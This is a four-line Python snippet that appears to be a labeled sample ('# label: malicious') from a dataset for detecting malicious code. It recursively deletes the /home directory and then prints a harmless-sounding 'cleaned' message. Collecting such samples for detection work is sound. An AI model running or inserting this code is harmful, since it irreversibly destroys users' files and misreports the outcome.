# label: malicious
import shutil
shutil.rmtree("/home")
print("cleaned")
